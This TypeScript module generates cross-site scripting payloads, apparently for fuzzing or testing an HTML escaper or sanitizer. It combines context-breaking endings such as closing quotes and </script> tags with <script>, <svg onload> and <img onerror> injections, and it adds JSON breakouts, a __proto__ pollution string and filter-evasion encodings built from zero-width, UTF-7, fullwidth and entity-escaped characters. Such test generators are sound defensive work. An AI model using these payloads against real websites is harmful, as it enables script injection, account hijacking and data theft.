import { coded, type Make, words } from "./text-makers.ts";

/** Ends of the contexts in which a text may appear × what may follow. */
export function endings(): Make[] {
  const ends = [
    ...[
      '"',
      "'",
      "`",
      "\\",
      '\\"',
      '">',
      "'>",
      "`>",
      "-->",
      "--!>",
      "]]>",
      "?>",
      "%>",
      "}}",
      "*/",
      "\n",
      "\u2028",
    ],
    ...words(
      "</title> </textarea> </style> </script> </SCRIPT\t> </noscript> </template> </iframe> </xmp> </select> </svg> </math> </p> </a> </h1> </main> </body></html>",
    ),
    ...[
      '"}]}</script>',
      '"}}]);</script>',
      "';}</script>",
      "&quot;&gt;",
      "&lt;/script&gt;",
      "%22%3E",
      "\\u003c/script\\u003e",
      "\\x3c/script>",
      '"/>',
    ],
  ];
  const tails: Make[] = [
    (run) => `<script>${run}</script>`,
    (run) => `<svg/onload=${run}>`,
    (run) => `<img src=x onerror=${run}>`,
    (run) => ` onmouseover=${run} onfocus=${run} autofocus x=`,
    (run) => `;${run}//`,
    (run) => `-${run}-'`,
    (run) => `\${${run}}{{${run}}}<%=${run}%>#{${run}}`,
    (run) => `<iframe srcdoc="<script>parent.${run}</script>">`,
  ];
  return ends.flatMap((end) => tails.map((tail) => (run: string) => end + tail(run)));
}

/** Ways to break out of a text in JSON, in a script or in a data block. */
export function dataBlocks(): Make[] {
  const signs = [
    "\u2028",
    "\u2029",
    "\\u2028",
    "\\",
    "\\\\",
    '\\"',
    "\ud83d\ude00",
    "\u0085",
    "</",
    "<!--<script",
    "<\\/",
  ];
  return signs.flatMap((sign): Make[] => [
    (run) => `${sign}"}</script><script>${run}</script>`,
    (run) => `${sign}${run}${sign}`,
    (run) => `",${sign}"__proto__":{"x":"${run}"},"`,
    (run) => `<script type="application/ld+json">{"a":"${sign}"}</script><script>${run}</script>`,
    (run) => `${sign}<!--<script>${run}</script>-->`,
  ]);
}

/** Characters that may be mistaken for others, and deep nesting. */
export function encodings(): Make[] {
  const signs = [
    "\u00a0",
    "\u2028",
    "\ufeff",
    "\u202e",
    "\u200b",
    "\u001b$B",
    "%00",
    "\\0",
    "+ADw-",
    "\u0001",
    "\u000b",
    "\u00bc",
    "\uff1c",
    "\u2039",
  ];
  return [
    ...signs.flatMap((sign): Make[] => [
      (run) => `<${sign}img src=x onerror=${run}>`,
      (run) => `<img${sign}src=x${sign}onerror=${run}>`,
      (run) => `<img src=x on${sign}error=${run}>`,
      (run) => `<a href="java${sign}script:${run}">x</a>`,
      (run) => `${sign}script>${run}</script>`,
    ]),
    ...[20, 60, 120].flatMap((depth): Make[] => [
      (run) => `${"<b><i>".repeat(depth)}<img src=x onerror=${run}>`,
      (run) => `${"<svg><g>".repeat(depth)}<script>${run}</script>`,
      (run) => `${"<table><td>".repeat(depth)}<img src=x onerror=${run}>`,
    ]),
    (run) => `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
    (run) => `\uff1cscript\uff1e${run}\uff1c/script\uff1e`,
    (run) => coded(`<script>${run}</script>`, (code) => `&#${code};`),
    (run) => coded(`<script>${run}</script>`, (code) => `%${code.toString(16)}`),
    (run) => coded(`<script>${run}</script>`, (code) => `\\u00${code.toString(16).padStart(2, "0")}`),
  ];
}
